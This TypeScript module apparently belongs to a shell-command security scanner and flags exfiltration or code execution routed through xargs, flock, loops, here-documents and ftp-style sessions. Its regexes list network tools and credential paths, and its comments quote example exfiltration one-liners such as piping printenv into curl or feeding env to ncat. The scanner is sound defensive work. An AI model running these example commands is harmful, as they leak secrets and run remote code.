// Commands fed by other commands: xargs (its input becomes arguments), flock -c, and ftp-style sessions fed a script.

import { hit, SENSITIVE_PATH } from "./bash-facts.ts";
import { NET_SINKS, type FlowContext } from "./shell-flow-facts.ts";
import { STDIN_SCRIPT_RUNNERS } from "./shell-launchers.ts";
import { findSubject } from "./shell-positional.ts";
import { resolveSubstitutions } from "./shell-static.ts";
import { base, type Stage } from "./shell-words.ts";
import type { Hit } from "./types.ts";

/** a command that can send data out or open a connection: only then does a loop variable or xargs input matter */
const SENDER =
  /(?:^|[\s;&|(`])(?:curl|wget|nc|ncat|netcat|socat|ssh|scp|rsync|s?ftp|tftp|telnet|openssl|dig|nslookup|host|drill|mail|sendmail|gh)(?=\s)|\/dev\/(?:tcp|udp)\//;

/** a loop list that can hold secrets or the environment: only then does the loop variable carry anything worth following */
const SOURCE_LIST =
  /~|\$\{?HOME\b|\/(?:home|root)\/|\.ssh\b|\.aws\b|\.gnupg|\.kube|\.docker|\.env\b|environ|history|credential|secret|token|passw|\.netrc|\.pgpass|\.npmrc|\bid_|\.pem\b|\.key\b|\b(?:compgen|printenv|env|set|export|declare)\b/i;

/** a shell, eval, or an interpreter given its code on the command line */
const RUNS_CODE =
  /\b(?:(?:ba|z|da)?sh|eval|source)\b|^(?:\S*\/)?(?:php[\d.]*|python[\d.]*|perl|ruby|node|deno|bun|lua[\d.]*)\s+(?:-\S+\s+)*-(?:r|c|e|E|p)\b/;

const XARGS_VALUE = /^(?:-[ELPSdnsI]|--(?:eof|max-lines|max-procs|delimiter|max-args|max-chars|replace|arg-file)|-a)$/;

/**
 * xargs CMD reads its input as CMD's arguments: the command as the shell would run it, with the input written as a
 * substitution in place of `{}` (-I) or appended (`printenv | xargs -I{} sh -c 'curl -d "{}" …'`,
 * `xargs -a <(printf …) sh -c`), scanned again. flock LOCK -c 'CMD' runs CMD.
 */
export function feedHits(s: Stage, stages: Stage[], src: string, ctx: FlowContext, hits: Hit[]): void {
  const ws = s.cmd.words;
  const at = ws.findIndex((w, i) => i < 4 && w.text.endsWith("xargs") && base(w.text) === "xargs");
  if (at >= 0) {
    let input: string | null = null;
    let replace: string | null = null;
    let i = at + 1;
    for (; i < ws.length; i++) {
      const t = ws[i].text;
      if (!t.startsWith("-")) break;
      const eq = /^(--[\w-]+)=([\s\S]*)$/.exec(t);
      const flag = eq ? eq[1] : /^-[a-zA-Z]/.test(t) && t.length > 2 && /^-[IaEdsnPL]/.test(t) ? t.slice(0, 2) : t;
      const value = eq ? eq[2] : flag !== t ? t.slice(2) : XARGS_VALUE.test(t) ? ws[++i]?.text : undefined;
      if (flag === "-a" || flag === "--arg-file")
        input = value === undefined ? null : /^<\(/.test(value) ? value.slice(2, -1) : `cat ${value}`;
      else if (flag === "-I" || flag === "--replace") replace = value ?? "{}";
      else if (flag === "-i") replace = "{}";
    }
    // (what a literal feed hands over is written as itself: find's subject, a here-string's words)
    let literal: string | null = null;
    if (input === null && s.cmd.stage > 0) {
      const k = stages.indexOf(s);
      if (k > 0) input = src.slice(stages[0].cmd.start, stages[k - 1].cmd.end);
      if (k === 1 && stages[0].name === "find") literal = findSubject(stages[0].argv.map((w) => w.text));
    }
    // xargs fed by a here-string or here-document (`xargs … <<< ~/.netrc`), or by `< FILE`
    if (input === null && s.cmd.stage === 0) {
      const from = s.cmd.redirects.find((r) => r.op === "<");
      const words = s.cmd.stdin.map((w) => w.text).join(" ");
      if (s.cmd.stdin.length > 0) input = `echo ${words}`;
      if (s.cmd.stdin.length > 0 && /^[\w@%+=:,./~-]+$/.test(words)) literal = words;
      else if (from) input = `cat ${from.target.text}`;
    }
    const first = ws[i];
    if (input !== null && first && input.length <= 4096) {
      const command = src.slice(first.start, s.cmd.end);
      const sub = literal ?? `"$(${input})"`;
      const text =
        replace !== null && command.includes(replace) ? command.split(replace).join(sub) : `${command} ${sub}`;
      // only where the input could reach a network tool or a shell (every other xargs is file plumbing)
      // (or an interpreter given code inline: `xargs -I{} php -r '…' {}` runs that code on each input)
      if (text.length <= 16384 && (SENDER.test(text) || RUNS_CODE.test(command)))
        hits.push(...view(ctx, text, s.cmd.start, s.cmd.end, "xargs runs"));
    }
  }
  const fl = ws.findIndex((w, i) => i < 4 && w.text.endsWith("flock") && base(w.text) === "flock");
  if (fl >= 0) {
    const c = ws.findIndex((w, i) => i > fl && (w.text === "-c" || w.text === "--command"));
    if (c > 0 && ws[c + 1]) hits.push(...ctx.rescan(ws[c + 1].text, s.cmd.start, s.cmd.end, "flock -c"));
  }
  sessionHits(s, ctx, hits);
  // at/batch run the script they read on stdin (a here-string, a here-document, or the pipe before them)
  if (STDIN_SCRIPT_RUNNERS.has(s.name) && s.cmd.stdin.length > 0)
    hits.push(
      ...ctx.rescan(s.cmd.stdin.map((w) => w.text).join("\n"), s.cmd.start, s.cmd.end, `${s.name} runs its input`),
    );
  stdinSubstitutionHits(s, src, ctx, hits);
  const k = stages.indexOf(s);
  if (k > 0) {
    const before = src.slice(stages[0].cmd.start, stages[k - 1].cmd.end);
    // … | eval "$(cat)", … | source /dev/stdin, … | bash -c "$(cat)": the piped text runs as a script
    if (
      STDIN_SCRIPT_RUNNERS.has(s.name) ||
      (/^(?:eval|source|\.|(?:ba|z|da)?sh)$/.test(s.name) &&
        /\$\(\s*cat\s*-?\s*\)|`cat`|\/dev\/stdin|\/proc\/self\/fd\/0/.test(s.text))
    )
      hits.push(...ctx.rescan(`${before} | sh`, stages[0].cmd.start, s.cmd.end, `${s.name} runs its input`));
    // … | while read v; do BODY; done: BODY sees each line as $v
    loopHits(s, before, src, ctx, hits);
  }
  // for v in LIST; do BODY; done: BODY sees each item as $v
  const loop =
    s.cmd.words[0]?.text === "for"
      ? /^for\s+([A-Za-z_]\w*)\s+in\s+([^;\n]{1,1000})[;\n]\s*do\b([\s\S]{1,4000}?)\bdone\b/.exec(
          src.slice(s.cmd.words[0].start, s.cmd.words[0].start + 6000),
        )
      : null;
  if (loop && SENDER.test(loop[3]) && SOURCE_LIST.test(loop[2]))
    hits.push(
      ...view(ctx, bodyWith(loop[3], loop[1], loop[2]), s.cmd.start, s.cmd.start + loop[0].length, `for ${loop[1]}`),
    );
  // $(printf '\143url') -s URL | bash: the program name a constant substitution prints, in its pipeline
  const w0 = s.cmd.words[0];
  if (w0 && /^(?:\$\(|`)/.test(w0.text) && w0.text.length <= 256 && stages.length > 1) {
    const r = resolveSubstitutions(w0.text);
    if (r.text !== w0.text && /^[\w./-]{1,64}$/.test(r.text.trim())) {
      const last = stages[stages.length - 1].cmd;
      const text = `${src.slice(stages[0].cmd.start, w0.start)}${r.text.trim()}${src.slice(w0.end, last.end)}`;
      hits.push(...ctx.rescan(text, stages[0].cmd.start, last.end, `${w0.text} = ${r.text.trim()}`));
    }
  }
}

/** A second reading of commands the parse already analysed in place: past the budget it adds nothing (no budget hit). */
function view(ctx: FlowContext, text: string, start: number, end: number, label: string): Hit[] {
  return ctx.rescan(text, start, end, label).filter((h) => h.rule !== "bash.derived-budget");
}

/** BODY with `$v`, `${v}` and `${!v}` written as what feeds them. */
function bodyWith(body: string, v: string, input: string): string {
  return body.replace(new RegExp(`\\$\\{!?${v}\\}|\\$${v}\\b`, "g"), input.trim());
}

/** `SRC | while read v; do BODY; done`: BODY scanned with $v written as $(SRC). */
function loopHits(s: Stage, before: string, src: string, ctx: FlowContext, hits: Hit[]): void {
  if (s.cmd.words[0]?.text !== "while" && s.cmd.words[0]?.text !== "until") return;
  const m =
    /^(?:while|until)\s+read\s+(?:-[a-zA-Z]+\s+)*([A-Za-z_]\w*)[^;\n]{0,40}[;\n]\s*do\b([\s\S]{1,4000}?)\bdone\b/.exec(
      src.slice(s.cmd.words[0].start, s.cmd.words[0].start + 4200),
    );
  if (m && before.length <= 2000 && SENDER.test(m[2]))
    hits.push(...view(ctx, bodyWith(m[2], m[1], `$(${before})`), s.cmd.start, s.cmd.start + m[0].length, "while read"));
}

/** `curl --data-binary @- URL <<EOF … $(env) … EOF`: a substitution in text fed to a network tool is sent. */
function stdinSubstitutionHits(s: Stage, src: string, ctx: FlowContext, hits: Hit[]): void {
  if (!NET_SINKS.has(s.name) || s.argv.length === 0) return;
  // `ncat host 8443 < <(env)`: a process substitution as stdin is a pipe written the other way round
  for (const r of s.cmd.redirects.slice(0, 4))
    if (r.op === "<" && /^<\([\s\S]{1,400}\)$/.test(r.target.text)) {
      const command = src.slice(s.argv[0].start, s.argv[s.argv.length - 1].end);
      hits.push(
        ...ctx.rescan(
          `${r.target.text.slice(2, -1)} | ${command}`,
          s.cmd.start,
          s.cmd.end,
          `${s.name} reads <(…) on stdin`,
        ),
      );
    }
  if (s.cmd.stdin.length === 0) return;
  if (/<<-?\s*['"\\]/.test(s.text)) return; // a quoted heredoc delimiter: nothing is expanded
  const command = src.slice(s.argv[0].start, s.argv[s.argv.length - 1].end);
  for (const w of s.cmd.stdin.slice(0, 4)) {
    if (src[w.start] === "'") continue;
    // (`\$(…)` in an unquoted here-document is escaped: sent as text for the remote shell, not run here)
    for (const m of w.text.matchAll(/(?<!\\)\$\(([^()]{1,400})\)|(?<!\\)`([^`]{1,400})`/g))
      hits.push(...ctx.rescan(`${m[1] ?? m[2]} | ${command}`, s.cmd.start, s.cmd.end, `${s.name} reads $(…) on stdin`));
  }
}

const SESSIONS = new Set(["ftp", "sftp", "lftp", "tftp", "smbclient", "ncftp", "ncftpput"]);

/** An ftp/sftp/smbclient session fed a script (heredoc, -b/-c): `put .env` uploads a secret, `!cmd` runs a shell. */
function sessionHits(s: Stage, ctx: FlowContext, hits: Hit[]): void {
  if (!SESSIONS.has(s.name)) return;
  const a = s.argv.map((w) => w.text);
  const script = [
    ...s.cmd.stdin.map((w) => w.text),
    ...a.filter((_t, i) => i > 0 && /^(?:-c|-e|--command)$/.test(a[i - 1] ?? "")),
  ].join("\n");
  for (const line of script.split(/[\n;]/).slice(0, 64)) {
    const put = /^\s*(?:put|mput|send|append|reput)\s+(\S+)/i.exec(line);
    if (put && SENSITIVE_PATH.test(` ${put[1]}`)) {
      hits.push(
        hit("bash.exfil-upload", "bash_exfil", 0.92, s.cmd.start, s.cmd.end, `${s.name} session: put ${put[1]}`),
      );
      return;
    }
    const bang = /^\s*!\s*(\S[\s\S]*)$/.exec(line);
    if (bang) hits.push(...ctx.rescan(bang[1], s.cmd.start, s.cmd.end, `${s.name} session runs`));
  }
}
